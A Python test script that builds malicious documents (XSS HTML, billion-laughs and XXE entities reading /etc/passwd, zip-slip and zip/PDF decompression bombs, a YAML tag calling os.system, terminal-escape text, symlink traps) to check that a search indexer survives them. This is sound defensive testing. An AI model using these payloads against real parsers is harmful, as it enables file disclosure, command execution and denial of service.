"""Reads documents that were made to do harm, each in a process with little memory.

    python tests/hostile_documents.py [--memory 2048] [--large]

Every document is indexed by a process of its own that may have so many MB of memory; ``--large``
adds those that take gigabytes on the disk. Prints for each what became of it, the seconds, and the
peak of memory; ends with 1 if one ended a process, or was neither read nor refused by name.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

MEMORY = 2048
"""MB of memory that a process may have."""

DOCX = {
    "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
    'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/'
    'xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>',
    "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    'package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>",
}
BODY = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    "<w:p><w:r><w:t>{}</w:t></w:r></w:p></w:body></w:document>"
)
LAUGHS = (
    '<!DOCTYPE lol [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(10))
    + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def docx(body: str, *, before: str = "", extra: dict[str, bytes] | None = None) -> bytes:
    """A Word document with that text."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, text in DOCX.items():
            file.writestr(name, text)
        file.writestr("word/document.xml", f'<?xml version="1.0"?>{before}{BODY.format(body)}')
        for name, data in (extra or {}).items():
            file.writestr(name, data)
    return out.getvalue()


def pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects, the first of which is the catalog."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        start,
    )
    return bytes(out)


def stream(data: bytes, more: bytes = b"") -> bytes:
    """A stream, packed as often as its filters in ``more`` say, or as it is."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), more, data)


def page(content: bytes, more: bytes = b"") -> bytes:
    """A PDF of one page."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources "
            b"<< /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> "
            b"/XObject << /X 5 0 R >> >> >>",
            stream(content, more),
            stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources "
                             b"<< /XObject << /X 5 0 R >> >>"),
        ]
    )  # fmt: skip


def bomb(layers: int, size: int) -> bytes:
    """A page whose content unpacks, layer by layer, to that size."""
    data = b" " * size
    for _ in range(layers):
        data = zlib.compress(data, 9)
    return page(data, b"/Filter [%s]" % (b"/FlateDecode " * layers))


TEXT = "Talks on herring\n\n1. Quotas\nMinister Ana Lima stated that the quota had to fall.\n"

SMALL: dict[str, Callable[[], bytes | str]] = {
    "scripts.html": lambda: "<script>alert(1)</script><p onclick='x()'>Herring <img src=x "
    "onerror=alert(1)> quotas fell.</p><iframe src='file:///etc/passwd'></iframe>",
    "laughs.html": lambda: f"{LAUGHS}<p>Herring &k; quotas</p>",
    "laughs.xhtml": lambda: f'<?xml version="1.0"?>{LAUGHS}<html><body>Herring &k;</body></html>',
    "outside.xhtml": lambda: f"{OUTSIDE}<html><body><p>Herring &x;</p></body></html>",
    "deep.html": lambda: "<div>" * 100_000 + "herring",
    "tables.html": lambda: "<table><tr><td>" * 30_000 + "herring",
    "attributes.html": lambda: f"<p {'a=1 ' * 300_000}>herring</p>",
    "lists.html": lambda: "<ol><li>" * 20_000 + "herring",
    "unclosed.html": lambda: "<!--" * 200_000 + "herring",
    "entities.html": lambda: "&amp" * 500_000 + "&#x1b;[31m&#0;&#xd800;herring",
    "outside.docx": lambda: docx("Herring &x;", before=OUTSIDE),
    "laughs.docx": lambda: docx("Herring &k;", before=LAUGHS),
    "links.docx": lambda: docx("Herring", extra={"word/_rels/document.xml.rels": b'<Relationships '
        b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
        b'Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'
        b'" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'}),
    "bomb.docx": lambda: docx("Herring", extra={"word/media/zeros.bin": bytes(600 << 20)}),
    "text-bomb.docx": lambda: docx("herring " * (24 << 20)),
    "climbing.docx": lambda: docx("Herring", extra={"../../../../tmp/evil.txt": b"evil"}),
    "parts.docx": lambda: docx("Herring", extra={f"x/{n}": b"" for n in range(20_000)}),
    "deep.docx": lambda: docx("</w:t></w:r>" + "<w:ins>" * 50_000 + "</w:ins>" * 50_000
                              + "<w:r><w:t>Herring"),
    "no.docx": lambda: b"PK\x03\x04" + os.urandom(5000),
    "loop.pdf": lambda: page(b"/X Do BT /F 12 Tf (Herring) Tj ET"),
    "pages-loop.pdf": lambda: pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                                   b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"]),
    "parent-loop.pdf": lambda: pdf([b"<< /Type /Catalog /Pages 1 0 R /Kids [1 0 R] >>"]),
    "length-loop.pdf": lambda: page(b"(Herring) Tj").replace(b"/Length 12", b"/Length 4 0 R"),
    "bomb.pdf": lambda: bomb(1, 1 << 30),
    "double-bomb.pdf": lambda: bomb(3, 1 << 30),
    "operators.pdf": lambda: page(b"BT /F 12 Tf " + b"(a) Tj " * 900_000 + b"ET"),
    "nested.pdf": lambda: page(b"[" * 200_000 + b"]" * 200_000 + b" TJ"),
    "count.pdf": lambda: page(b"BT (Herring) Tj ET").replace(b"/Count 1", b"/Count 999999999"),
    "no.pdf": lambda: b"%PDF-1.7\n" + os.urandom(200_000),
    "escapes.txt": lambda: (
        TEXT + "\x1b]0;owned\x07\x1b[2J\x1b[31m\u202etxt.exe \x9b31m was what she had sent.\r\n"
    ),
    "bytes.txt": lambda: bytes(range(256)) * 100,
    "nul.txt": lambda: TEXT + "\x00",
    "late-nul.txt": lambda: TEXT * 20_000 + "\x00\x00 herring",
    "surrogates.txt": lambda: TEXT.encode() + b"\xed\xa0\x80\xed\xbf\xbf herring",
    "utf16.txt": lambda: b"\xff\xfe" + TEXT.encode("utf-16-le") + b"\x00\xd8",
    "combining.txt": lambda: "H" + "\u0301" * 500_000 + "erring",
    "one-line.txt": lambda: "herring quota fell. " * 150_000,
    "one-word.txt": lambda: "x" * 3_000_000,
    "brackets.txt": lambda: TEXT + "(" * 300_000,
    "numbers.txt": lambda: "1.1.1.1" * 100_000 + "\n" + "1.\n" * 50_000,
    "names.txt": lambda: "Minister Ana Lima and " * 30_000,
    "colons.txt": lambda: "Mr. A: Mr. B: " * 40_000,
    "quotes.txt": lambda: "He said “" * 60_000,
    "front.md": lambda: "---\na: &a [x,x,x]\n" + "".join(
        f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 9)}]\n" for n in range(12)
    ) + "title: *m\n---\n" + TEXT,
    "deep.md": lambda: "---\ntitle: " + "[" * 20_000 + "\n---\n" + TEXT,
    "tags.md": lambda: "---\ntitle: !!python/object/apply:os.system ['touch owned']\n---\n" + TEXT,
    "quotes.md": lambda: ">" * 200_000 + " herring",
    "name\nwith\x1b[31mlines\u202e.txt": lambda: TEXT,
}  # fmt: skip


def sparse(path: Path, size: int, begin: bytes = b"") -> None:
    """A file of that size that takes no room."""
    with path.open("wb") as file:
        file.write(begin)
        file.truncate(size)


def large(folder: Path) -> None:
    """Documents of a gigabyte."""
    line = ("herring quota " * 75_000).encode()
    with (folder / "gigabyte-of-one-line.txt").open("wb") as file:
        for _ in range(1024):
            file.write(line)
    sparse(folder / "sparse.txt", 1 << 40, TEXT.encode())
    sparse(folder / "sparse.pdf", 1 << 40, b"%PDF-1.7\n")
    sparse(folder / "sparse.docx", 1 << 40, b"PK\x03\x04")
    sparse(folder / "sparse.html", 1 << 40, b"<p>Herring")
    with (folder / "largest-line.txt").open("wb") as file:
        file.write(line * 60)


def traps(folder: Path) -> None:
    """What a folder may hold besides files."""
    os.mkfifo(folder / "pipe.txt")
    (folder / "loop").symlink_to(folder, target_is_directory=True)
    (folder / "self.txt").symlink_to(folder / "self.txt")
    (folder / "zero.txt").symlink_to("/dev/zero")
    (folder / "random.txt").symlink_to("/dev/urandom")
    (folder / "terminal.txt").symlink_to("/dev/tty")
    (folder / "nothing.txt").symlink_to(folder / "not there")
    deep = folder
    for _ in range(200):
        deep /= "deep"
        deep.mkdir()
    (deep / "deep.txt").write_text(TEXT)


INDEX = """
import json, resource, sys
memory = int(sys.argv[1]) << 20
resource.setrlimit(resource.RLIMIT_AS, (memory, memory))
from searchkit.cli import main
status = main(["index", sys.argv[2], "--index", sys.argv[3], "--json"])
if status == 0 or len(sys.argv) > 4:
    from searchkit import Index
    shown = [row.id for row in Index.open(sys.argv[3]).documents()]
    for words in (["search", "herring"], ["documents"], ["show", *shown[:1]], ["speakers"]):
        main([*words, "--index", sys.argv[3]])
peak = [line.split()[1] for line in open("/proc/self/status") if line.startswith("VmHWM")]
print(json.dumps({"peak": int(peak[0]) // 1024}))
sys.exit(status)
"""


def index(path: Path, *, memory: int = MEMORY) -> tuple[str, float, int]:
    """What became of a document or folder, in how many seconds and MB.

    Raises:
        AssertionError: its process ended otherwise than it should, or said what a terminal obeys.
    """
    with tempfile.TemporaryDirectory() as place:
        began = time.monotonic()
        done = subprocess.run(
            [sys.executable, "-c", INDEX, str(memory), str(path), f"{place}/index"],
            capture_output=True,
            stdin=subprocess.DEVNULL,
            cwd=place,
            check=False,
        )
        took = time.monotonic() - began
        assert os.listdir(place) in ([], ["index"]), "it has written beside the index"
    said = (done.stdout + done.stderr).decode()
    assert done.returncode in (0, 2), f"ended with {done.returncode}: {said[-500:]}"
    assert "Traceback" not in said, said[-2000:]
    for sign in ("\x1b", "\x07", "\x9b", "\u202e", "\x00", "root:"):
        assert sign not in said, f"said {sign!r}: {said[:500]!r}"
    peak = json.loads(done.stdout.decode().strip().splitlines()[-1])["peak"]
    report = json.loads(done.stdout.decode().splitlines()[0])
    reasons = [f"refused: {one['reason']}" for one in report["skipped"]]
    return "; ".join(reasons) or f"read: {report['passages']} passages", took, peak


def documents(folder: Path, names: list[str]) -> Iterator[Path]:
    """Write the small documents of these names, one by one, each in a folder of its own."""
    for number, name in enumerate(names):
        made = SMALL[name]()
        place = folder / str(number)
        place.mkdir()
        path = place / name
        path.write_bytes(made if isinstance(made, bytes) else made.encode("utf-8", "surrogatepass"))
        yield path
        path.unlink()


def main() -> int:
    """Run what the command line asks for."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--memory", type=int, default=MEMORY, help="MB for each process")
    parser.add_argument("--large", action="store_true", help="files of gigabytes as well")
    asked = parser.parse_args()
    failed = most = 0
    with tempfile.TemporaryDirectory() as root:

        def paths() -> Iterator[Path]:
            (Path(root) / "small").mkdir()
            yield from documents(Path(root) / "small", list(SMALL))
            (Path(root) / "traps").mkdir()
            traps(Path(root) / "traps")
            yield Path(root) / "traps"
            if asked.large:
                (Path(root) / "large").mkdir()
                large(Path(root) / "large")
                yield from sorted((Path(root) / "large").iterdir())

        for path in paths():
            try:
                line, took, peak = index(path, memory=asked.memory)
                shown = line.replace(f"{path.parent}/", "").replace(root, "")[:90]
                most = max(most, peak)
                print(f"{took:6.1f} s {peak:5} MB  {path.name!a:.40}: {shown}", flush=True)
            except AssertionError as error:
                failed += 1
                print(f"FAILED {path.name!a}: {error}", flush=True)
    print(f"{failed} failed; the most memory was {most} MB of {asked.memory} allowed")
    return bool(failed)


if __name__ == "__main__":
    sys.exit(main())
